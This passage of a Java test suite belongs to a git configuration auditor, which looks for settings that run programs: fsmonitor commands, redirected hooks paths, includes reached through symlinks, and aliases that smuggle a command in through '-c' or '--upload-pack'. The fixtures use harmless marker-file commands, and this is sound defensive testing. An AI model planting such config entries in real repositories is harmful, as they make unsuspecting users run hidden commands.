     * The user's includes, as a command in the workspace might shape them: a long chain (each
     * link behind a condition that never holds, so the host's git works on) that reaches a file
     * first at git's depth, where its own include would be dropped, before a direct include
     * reaches it; and a file that includes itself under many spellings, which depth-first
     * reading by the path as written made into k to the 10th runs of git. Read breadth first, by
     * real path, each file once: the hooks path behind the direct include is found, at once.
     */
    @Test
    void yourConfigsIncludesAreReadBreadthFirstOnceEach() throws Exception {
        Path home = Files.createDirectories(temp.resolve("home"));
        Path chain = Files.createDirectories(home.resolve("ws/dot"));
        StringBuilder gitconfig = new StringBuilder("[include]\n\tpath = ws/dot/a1\n\tpath = ws/dot/self\n"
                + "\tpath = .gitconfig-work\n");
        for (int i = 1; i <= 9; i++) {
            Files.writeString(chain.resolve("a" + i), "[includeIf \"onbranch:never\"]\n\tpath = "
                    + (i < 9 ? "a" + (i + 1) : "../../.gitconfig-work") + "\n");
        }
        Files.writeString(chain.resolve("self"), "[includeIf \"onbranch:never\"]\n\tpath = self\n\tpath = ./self\n"
                + "\tpath = ../dot/self\n\tpath = .//self\n");
        Files.writeString(home.resolve(".gitconfig-work"), "[include]\n\tpath = .gitconfig-hooks\n");
        Files.writeString(home.resolve(".gitconfig-hooks"), "[core]\n\thooksPath = .githooks\n");
        Files.writeString(home.resolve(".gitconfig"), gitconfig);

        Path runs = temp.resolve("runs");
        Path counted = Files.writeString(temp.resolve("git-counted"), "#!/bin/sh\necho run >> '" + runs + "'\nexec '"
                + gitAs(home) + "' \"$@\"\n");
        Files.setPosixFilePermissions(counted, PosixFilePermissions.fromString("rwx------"));
        List<String> paths = new GitConfigFile(counted.toString()).usersValues("core.hooksPath", home);
        long count = Files.readAllLines(runs).size();
        System.out.println("the user's hooks paths, in " + count + " runs of git: " + paths);
        assertThat(paths).containsExactly(".githooks");
        // system, global, and the 12 files (a1 to a9, self, the two in the home): one run each.
        assertThat(count).isEqualTo(14);
    }

    /**
     * A part of a repository the audit cannot read (its hooks path, made unreadable) is reported
     * as not audited, and hides nothing else: before, the hooks path's error ended the whole
     * audit, every finding lost, this repository's own core.fsmonitor among them.
     */
    @Test
    void anUnreadableHooksPathIsReportedAndHidesNothingElse() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeFalse(isRoot(),
                "runs as root, who reads a mode-000 directory anyway: this case cannot be set up");
        Path repo = initRepo(tree(), "repo");
        git(repo, "config", "core.fsmonitor", "touch /tmp/marker");
        git(repo, "config", "core.hooksPath", "h");
        Path hooks = Files.createDirectories(repo.resolve("h"));
        Files.setPosixFilePermissions(hooks, PosixFilePermissions.fromString("---------"));
        try {
            assertThat(audit(repo.getParent())).extracting(Finding::file, Finding::key).contains(
                    org.assertj.core.groups.Tuple.tuple("repo/.git/config", "core.fsmonitor"),
                    org.assertj.core.groups.Tuple.tuple("repo/h", "(not audited)"));
        } finally {
            Files.setPosixFilePermissions(hooks, PosixFilePermissions.fromString("rwx------"));
        }
    }

    @Test
    void anIncludeThroughALinkIsTakenFromTheLinksDirectoryAsGitTakesIt() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "p");
        Files.createDirectories(repo.resolve(".git/inc"));
        Files.createDirectories(repo.resolve("docs"));
        git(repo, "config", "include.path", "inc/a.cfg");
        Files.writeString(repo.resolve("docs/a.cfg"), "[include]\n\tpath = b.cfg\n");
        Files.writeString(repo.resolve("docs/b.cfg"), "[user]\n\tname = a decoy\n");
        Files.createSymbolicLink(repo.resolve(".git/inc/a.cfg"), Path.of("../../docs/a.cfg"));
        Files.writeString(repo.resolve(".git/inc/b.cfg"), "[core]\n\tfsmonitor = \"touch fired; false\"\n");

        // The premise: git reads b.cfg beside the link, not beside its target.
        assertThat(git(repo, "config", "--show-origin", "core.fsmonitor")).contains(".git/inc/b.cfg");

        assertThat(audit(tree)).extracting(Finding::file, Finding::key, Finding::command)
                .contains(org.assertj.core.groups.Tuple.tuple("p/.git/inc/b.cfg", "core.fsmonitor", "touch fired; false"));
    }

    @Test
    void includesThatComeBackToThemselvesEndAtOnce() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "p");
        Path inc = Files.createDirectories(repo.resolve(".git/inc"));
        Files.createDirectories(inc.resolve("x"));
        Files.createSymbolicLink(inc.resolve("here"), Path.of("."));
        Files.createSymbolicLink(inc.resolve("there"), Path.of("."));
        git(repo, "config", "include.path", "inc/a.cfg");
        // Each turn names the same file by a longer path: x/../, and two links to ".".
        Files.writeString(inc.resolve("a.cfg"), "[include]\n\tpath = x/../a.cfg\n\tpath = here/a.cfg\n\tpath = there/a.cfg\n"
                + "[core]\n\tfsmonitor = \"touch fired; false\"\n");

        long started = System.nanoTime();
        List<Finding> findings = audit(tree);
        assertThat(TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - started)).isLessThan(10);
        assertThat(findings).extracting(Finding::file, Finding::key)
                .contains(org.assertj.core.groups.Tuple.tuple("p/.git/inc/a.cfg", "core.fsmonitor"));
    }

    @Test
    void aDotGitInAnotherCaseHidesNothingBeneathIt() throws Exception {
        Path tree = tree();
        Path inner = initRepo(Files.createDirectories(tree.resolve("p/.GIT")), "inner");
        git(inner, "config", "core.fsmonitor", "touch fired; false");

        assertThat(audit(tree)).extracting(Finding::file, Finding::key)
                .contains(org.assertj.core.groups.Tuple.tuple("p/.GIT/inner/.git/config", "core.fsmonitor"));
    }

    @Test
    void aHooksPathIsFollowedAsGitFollowsIt() throws Exception {
        Path tree = tree();
        // Through a link, then "..": the kernel takes ".." after the link, from the link's target.
        Path linked = initRepo(tree, "linked");
        Files.createDirectories(linked.resolve("tools/h"));
        Files.createDirectories(linked.resolve("scripts/x"));
        Files.createSymbolicLink(linked.resolve("tools/lnk"), Path.of("../scripts/x"));
        git(linked, "config", "core.hooksPath", "tools/lnk/../h");
        Path linkedFired = hook(linked.resolve("scripts/h"));
        // From a work tree that core.worktree moved: hooks run at its top.
        Path moved = initRepo(tree, "moved");
        Files.createDirectories(moved.resolve("h"));
        Path movedFired = hook(moved.resolve("sub/h"));
        git(moved, "config", "core.worktree", "../sub");
        git(moved, "config", "core.hooksPath", "h");

        assertThat(audit(tree)).extracting(Finding::file, Finding::key)
                .contains(org.assertj.core.groups.Tuple.tuple("linked/scripts/h/pre-commit", "hook (core.hooksPath)"),
                        org.assertj.core.groups.Tuple.tuple("moved/sub/h/pre-commit", "hook (core.hooksPath)"));
        // The premise: those are the hooks git runs.
        git(linked, "hook", "run", "pre-commit");
        git(moved.resolve("sub"), "hook", "run", "pre-commit");
        assertThat(linkedFired).exists();
        assertThat(movedFired).exists();
    }

    @Test
    void aliasesThatRunProgramsWithoutABangOrALeadingOptionAreFound() throws Exception {
        Path repo = initRepo(tree(), "p");
        Path quoted = temp.resolve("fired-quoted");
        Path fetched = temp.resolve("fired-fetched");
        String quotedOption = "\"-c\" core.fsmonitor=\"touch " + quoted + "; false\" status";
        String uploadPack = "fetch -q --upload-pack='touch " + fetched + "; false' .";
        git(repo, "config", "alias.st", quotedOption);
        git(repo, "config", "alias.up", uploadPack);

        assertThat(audit(repo.getParent())).contains(new Finding("p/.git/config", "alias.st", quotedOption),
                new Finding("p/.git/config", "alias.up", uploadPack));
        // The premise: git unquotes the first and runs the fsmonitor; the second runs its upload-pack.
        new ProcessBuilder("git", "st").directory(repo.toFile()).redirectErrorStream(true).start().waitFor(30, TimeUnit.SECONDS);
        new ProcessBuilder("git", "up").directory(repo.toFile()).redirectErrorStream(true).start().waitFor(30, TimeUnit.SECONDS);
        assertThat(quoted).exists();
        assertThat(fetched).exists();
    }

    @Test
    void anAliasKeyWithASubsectionIsFound() throws Exception {
        Path repo = initRepo(tree(), "p");
        Path fired = temp.resolve("fired-alias");
        git(repo, "config", "alias.up.stream", "!touch " + fired);

        assertThat(audit(repo.getParent())).contains(new Finding("p/.git/config", "alias.up.stream", "!touch " + fired));
        // The premise: git takes alias.up.stream as the alias "up.stream".
        git(repo, "up.stream");
        assertThat(fired).exists();
    }

    @Test
    void aLinkedWorktreesOwnCoreWorktreeMeetsTheMainRepositorysHooksPath() throws Exception {
        Path tree = tree();
        Path main = repoWithWorktree(tree, "p");
        git(main, "config", "extensions.worktreeConfig", "true");
        git(main, "config", "core.hooksPath", "h");
        Path fired = hook(tree.resolve("else/h"));
        Files.writeString(main.resolve(".git/worktrees/wt/config.worktree"), "[core]\n\tworktree = ../../../../else\n");

        assertThat(audit(tree)).extracting(Finding::file, Finding::key)
                .contains(org.assertj.core.groups.Tuple.tuple("else/h/pre-commit", "hook (core.hooksPath)"));
        // The premise: in the linked worktree git takes else for the top, and the common hooksPath from there.
        git(tree.resolve("wt"), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "second");
        assertThat(fired).exists();
    }

    @Test
    void anIncludeSharedByTwoRepositoriesIsReadForEach() throws Exception {
        Path tree = tree();
        Path shared = Files.writeString(tree.resolve("shared.cfg"), "[core]\n\thooksPath = hk\n");
        for (String bare : List.of("a.git", "b.git")) {
            git(tree, "init", "-q", "--bare", bare);
            git(tree.resolve(bare), "config", "include.path", shared.toString());
            hook(tree.resolve(bare + "/hk"));
        }

        assertThat(audit(tree)).extracting(Finding::file, Finding::key).contains(
                org.assertj.core.groups.Tuple.tuple("a.git/hk/pre-commit", "hook (core.hooksPath)"),
                org.assertj.core.groups.Tuple.tuple("b.git/hk/pre-commit", "hook (core.hooksPath)"));
        // The premise: the second repository's git runs the hook its include names.
        git(tree.resolve("b.git"), "hook", "run", "pre-commit");
        assertThat(temp.resolve("fired-b.git")).exists();
    }

    @Test
    void aRelativeHooksPathOfABareRepositoryIsAuditedFromEveryDirectoryInIt() throws Exception {
        Path tree = tree();
        git(tree, "init", "-q", "--bare", "b.git");
        Path bare = tree.resolve("b.git");
        git(bare, "config", "core.hooksPath", "h");
        Path fired = hook(bare.resolve("refs/heads/h"));

        List<Finding> findings = audit(tree);
        assertThat(findings).contains(new Finding("b.git/config", "core.hookspath target", "h (relative: git takes it from "
                + "the directory it runs in, which here may be any; audited from every directory in the git directory and "
                + "around it)"));
        assertThat(findings).extracting(Finding::file, Finding::key)
                .contains(org.assertj.core.groups.Tuple.tuple("b.git/refs/heads/h/pre-commit", "hook (core.hooksPath)"));
        assertThat(findings).noneMatch(finding -> finding.command().contains("does not exist"));
        // The premise: run from b.git/refs/heads, git takes the hooks from b.git/refs/heads/h, not from b.git/h.
        git(bare.resolve("refs/heads"), "hook", "run", "pre-commit");
        assertThat(fired).exists();
    }

    @Test
    void aRelativeHooksPathIsAuditedFromEveryDirectoryOfAWorkTreeThatCoreWorktreeMovedAway() throws Exception {
        Path tree = tree();
        Files.createDirectories(tree.resolve("else"));
        Path repo = initRepo(tree, "p");
        git(repo, "config", "core.worktree", "../../else");
        git(repo, "config", "core.hooksPath", "h");
        Path firedInWorkTree = hook(repo.resolve("sub/h"));
        Path firedInGitDirectory = hook(repo.resolve(".git/objects/h"));

        assertThat(audit(tree)).extracting(Finding::file, Finding::key).contains(
                org.assertj.core.groups.Tuple.tuple("p/sub/h/pre-commit", "hook (core.hooksPath)"),
                org.assertj.core.groups.Tuple.tuple("p/.git/objects/h/pre-commit", "hook (core.hooksPath)"));
        // The premise: git hook run stays where it was started, in the old work tree or the git directory.
        git(repo.resolve("sub"), "hook", "run", "pre-commit");
        git(repo.resolve(".git/objects"), "hook", "run", "pre-commit");
        assertThat(firedInWorkTree).exists();
        assertThat(firedInGitDirectory).exists();
    }

    @Test
    void aCoreWorktreeInAnIncludedFileMovesNothing() throws Exception {
        Path repo = initRepo(tree(), "p");
        Files.writeString(repo.resolve(".git/inc.cfg"), "[core]\n\tworktree = ../dec\n");
        Files.createDirectories(repo.resolve("dec"));
        git(repo, "config", "include.path", "inc.cfg");
        git(repo, "config", "core.hooksPath", "h");

        assertThat(audit(repo.getParent())).contains(new Finding("p/.git/config", "core.hookspath target",
                "p/h (does not exist: whoever creates it decides what git reads there)"));
        // The premise: git keeps p as the top of the work tree.
        assertThat(git(repo, "rev-parse", "--show-toplevel").strip()).isEqualTo(repo.toRealPath().toString());
    }

    @Test
    void aGitdirThatIsNotUtf8IsReportedAsNotAuditedNotAsMissing() throws Exception {
        Path repo = initRepo(tree(), "p");
        // A name no String of this JVM can stand for: byte 0xff.
        Process layout = new ProcessBuilder("sh", "-c", "d=\"$(printf 'store\\377')\"; mv .git \"$d\" && "
                + "printf 'gitdir: store\\377\\n' > .git && git config core.fsmonitor 'touch fired; false'")
                .directory(repo.toFile()).redirectErrorStream(true).start();
        assertThat(new String(layout.getInputStream().readAllBytes())).isEmpty();
        assertThat(layout.waitFor()).isZero();

        assertThat(audit(repo.getParent())).filteredOn(finding -> finding.file().equals("p/.git"))
                .singleElement().satisfies(finding -> {
                    assertThat(finding.key()).isEqualTo("gitdir");
                    assertThat(finding.command()).contains("not UTF-8: git follows it, the audit cannot; not audited");
                });
    }

    /** An executable pre-commit hook in {@code dir} that creates the file it returns. */
    Path hook(Path dir) throws IOException {
        Path fired = temp.resolve("fired-" + dir.getParent().getFileName());
        Files.createDirectories(dir);
        Path hook = Files.writeString(dir.resolve("pre-commit"), "#!/bin/sh\ntouch '" + fired + "'\n");
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x"));
        return fired;
    }

    /** A repository {@code name} with one commit, and a linked worktree beside it, {@code wt}. */
    static Path repoWithWorktree(Path parent, String name) throws Exception {
        Path repo = initRepo(parent, name);
        git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "first");
        git(repo, "worktree", "add", "-q", "../wt");
        return repo;
    }

    static Path initRepo(Path parent, String name) throws Exception {
        Path repo = Files.createDirectories(parent.resolve(name));
        git(repo, "init", "-q");
        return repo;
    }

    static void mkfifo(Path path) throws Exception {
        Process process = new ProcessBuilder("mkfifo", path.toString()).inheritIO().start();
        assertThat(process.waitFor()).isZero();
    }

    static String gitOutput(Path dir, String... args) throws Exception {
        List<String> command = new java.util.ArrayList<>(List.of("git", "-c", "safe.directory=*"));
        command.addAll(List.of(args));
        Process process = new ProcessBuilder(command).directory(dir.toFile()).start();
        String output = new String(process.getInputStream().readAllBytes());
        assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
        return output;
    }

    static String sha256Prefix(String content) throws Exception {
        return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                .digest(content.getBytes(java.nio.charset.StandardCharsets.UTF_8))).substring(0, 16);
    }

    /** A sparse hook can claim terabytes: its digest reads a bounded part, and names its size and change time. */
    @Test
    void aHookLargerThanADigestReadsIsNamedWithItsSizeAndChangeTime() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "repo");
        Path hook = repo.resolve(".git/hooks/pre-commit");
        try (var big = new java.io.RandomAccessFile(hook.toFile(), "rw")) {
            big.setLength(AuditedTree.MAX_DIGESTED + 1);
        }
        Files.setPosixFilePermissions(hook, java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));

        assertThat(audit(tree)).anySatisfy(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/hooks/pre-commit");
            assertThat(finding.command()).contains(" of its first 256 MiB of " + (AuditedTree.MAX_DIGESTED + 1) + " bytes, changed ");
        });
    }
}
